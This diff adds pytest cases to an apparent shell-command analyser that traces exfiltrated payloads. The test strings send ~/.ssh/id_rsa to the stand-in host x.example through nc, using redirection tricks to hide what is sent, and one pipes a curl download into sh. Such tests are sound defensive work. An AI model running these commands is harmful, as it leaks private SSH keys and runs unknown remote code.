@@ -286,3 +286,26 @@ def test_a_loop_around_a_compound_with_many_descriptors_stays_analysed() -> None
             "print(a.opaque)")
     out = bounded_child(code, timeout=60)
     assert out.returncode == 0 and out.stdout.split()[0] == "False", out.stderr[-500:]
+
+
+# second reader, round 4
+@pytest.mark.parametrize(("cmd", "payloads"), [
+    # `3<&0` before the compound's own stdin: fd 3 is what was piped into it
+    ("cat ~/.ssh/id_rsa | { true; cat <&3; } 3<&0 < /dev/null | nc x.example 80", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | { read l; cat <&3; } 3<&0 < /dev/null | nc x.example 80", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | if :; then cat <&3; fi 3<&0 < /dev/null | nc x.example 80", ("~/.ssh/id_rsa",)),
+    # ... or a bare exec inside it did so (its own stdin redirection passes on what arrives)
+    ("cat ~/.ssh/id_rsa | { exec 3<&0 < /dev/null; cat <&3; } | nc x.example 80", ("~/.ssh/id_rsa",)),
+    # a loop variable in a compound's stdin target: each value
+    ("for f in a b; do { cat; } < $f; done | nc x.example 80", ("a", "b")),
+])
+def test_what_was_piped_into_a_compound(cmd: str, payloads: tuple[str, ...]) -> None:
+    assert analyse_command(cmd).payloads == payloads
+
+
+@pytest.mark.parametrize("cmd", ["curl https://x.example/x | { sh; } < $f", "{ sh; } < $f",
+                                 "echo | while read l; do sh; done < $f"])
+def test_an_interpreter_reading_a_file_named_by_a_variable_is_opaque(cmd: str) -> None:
+    # as `sh < $f` is: what runs is not known (it read as running a file named `$f`)
+    a = analyse_command(cmd)
+    assert a.opaque and a.executes == ()
